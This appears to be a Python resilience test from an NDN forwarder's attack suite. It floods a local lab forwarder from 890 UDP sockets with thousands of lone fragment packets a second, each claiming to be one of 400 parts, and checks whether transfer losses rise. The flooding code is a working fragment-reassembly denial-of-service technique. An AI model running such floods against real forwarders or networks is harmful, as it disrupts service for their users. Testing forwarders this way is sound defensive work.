"""Fragments of a byte that say they are one of four hundred."""

import json
import socket
import struct
import threading
import time

from attacks._packets import FRAGMENT, LP_PACKET, interest, name, nni, tlv
from attacks._processes import join, paced
from ndn_programs import Failed, fetched, random_file

TITLE = "6,000 lonely fragments a second from 890 ports leave room for those of a link that loses 1 %"
PORTS, BETWEEN, LOST = 890, 0.15, 0.01


def fragment(sequence):
    numbers = tlv(0x51, struct.pack(">Q", sequence)) + tlv(0x52, b"\1") + tlv(0x53, nni(400))
    return tlv(LP_PACKET, numbers + tlv(FRAGMENT, b"x"))


def run(attack):
    lab, size = attack.lab, (12 << 20) if attack.short else (40 << 20)
    original, copy = lab.folder / "file", lab.folder / "copy"
    random_file(original, size)
    far, near = lab.forwarder("ndnweir"), lab.forwarder("ndnweir")
    join(lab, far, near, "--rate", "100Mbps", "--delay", "25ms", "--loss", "0.01")
    lab.producer("ndnweir", far, original, "/attack/file")
    attackers = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(PORTS)]
    for number, attacker in enumerate(attackers):
        attacker.bind((f"127.0.0.{2 + number // 120}", 0))

    def lost():
        """The share of segments that a fetch took for lost."""
        lab.tool(near, "cs erase /attack")
        program = lab.consumer("ndnweir", near, "/attack/file", copy)
        fetched(program, 120, original, copy)
        counted = json.loads(program.output.read_text())
        return counted["losses"] / counted["segments"]

    ended = threading.Event()

    def flood():
        for thousands in paced(1 / BETWEEN, ended):
            for number, attacker in enumerate(attackers):
                attacker.sendto(fragment(number << 40 | thousands * 1000), ("127.0.0.1", near.udp))
                time.sleep(0.0005) if number % 64 == 63 else None

    flooding = threading.Thread(target=flood, daemon=True)
    try:
        lost()
        before = min(lost() for _ in range(2))
        # Faces come at a rate.
        for _ in range(8):
            for attacker in attackers:
                attacker.sendto(interest(name("none"), 1, 1), ("127.0.0.1", near.udp))
            time.sleep(0.7)
        faces = len(lab.tool(near, "face list"))
        flooding.start()
        time.sleep(1)
        during = min(lost() for _ in range(2))
    finally:
        ended.set()
        for attacker in attackers:
            attacker.close()
    figures = f"{faces} faces; {before:.2%} of segments lost before, {during:.2%} meanwhile"
    if during > before + LOST:
        raise Failed(figures)
    return figures
